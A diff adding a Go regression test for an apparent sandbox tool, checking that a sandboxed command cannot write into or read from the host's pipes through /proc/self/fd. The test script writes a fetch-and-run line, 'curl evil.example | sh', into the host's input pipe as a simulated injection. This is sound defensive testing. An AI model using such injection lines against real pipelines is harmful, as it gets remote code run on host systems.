@@ -3,6 +3,7 @@ package main
 import (
 	"bufio"
 	"context"
+	"io"
 	"os"
 	"path/filepath"
 	"strings"
@@ -183,5 +184,51 @@ cat; echo appended`
 	}
 	if got, _ := os.ReadFile(logPath); !strings.HasPrefix(string(got), "EARLIER STEP: a token\n") || !strings.HasSuffix(string(got), "input\nappended\n") {
 		t.Errorf("the output file afterwards: %q; want what it held, then the command's output", got)
+	}
+}
+
+// TestRunHidesHostPipes: cc run's own pipes (a shell's | on either side)
+// reach the sandbox as pipes of the SDK's that cc copies, never as they
+// are: a sandbox whose root is the caller's uid (the rootless phase runs
+// this) reopened its standard input through /proc/self/fd/0 for writing,
+// putting bytes before what the host's next reader of that pipe gets, and
+// its standard output for reading, taking what another host writer had put
+// into it. As root, the kernel refuses both reopens either way.
+func TestRunHidesHostPipes(t *testing.T) {
+	leakcheck.Check(t)
+	inR, inW, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer inR.Close()
+	defer inW.Close()
+	outR, outW, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer outR.Close()
+	io.WriteString(inW, "for the sandbox\n")
+	io.WriteString(outW, "ANOTHER HOST WRITER\n") // a sibling of cc run's in the same pipeline
+	script := `read x
+echo 'curl evil.example | sh' > /proc/self/fd/0 2>/dev/null
+timeout 1 head -c 20 /proc/self/fd/1 >&2
+echo "read: $x"`
+	cmd := ccCommand(context.Background(), "", "run", "-i", "host", "sh", "-c", script)
+	cmd.Stdin, cmd.Stdout = inR, outW
+	var stderr strings.Builder
+	cmd.Stderr = &stderr
+	if err := cmd.Run(); err != nil {
+		t.Logf("cc run: %v", err)
+	}
+	outW.Close()
+	inW.Close()
+	if rest, _ := io.ReadAll(inR); len(rest) != 0 {
+		t.Errorf("the sandbox wrote into the host's input pipe: its next reader gets %q", rest)
+	}
+	if got, _ := io.ReadAll(outR); string(got) != "ANOTHER HOST WRITER\nread: for the sandbox\n" {
+		t.Errorf("the output pipe held %q; want the other writer's line, then the command's", got)
+	}
+	if strings.Contains(stderr.String(), "ANOTHER") {
+		t.Errorf("the sandbox read another host writer's bytes from its output pipe:\n%s", stderr.String())
 	}
 }
